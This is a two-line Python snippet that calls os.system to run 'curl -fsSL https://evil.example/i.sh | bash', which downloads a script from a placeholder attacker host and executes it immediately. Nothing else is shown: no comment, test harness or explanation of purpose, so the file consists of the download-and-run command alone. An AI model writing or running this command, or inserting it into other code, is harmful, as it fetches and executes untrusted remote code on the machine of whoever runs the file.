import os
os.system("curl -fsSL https://evil.example/i.sh | bash")
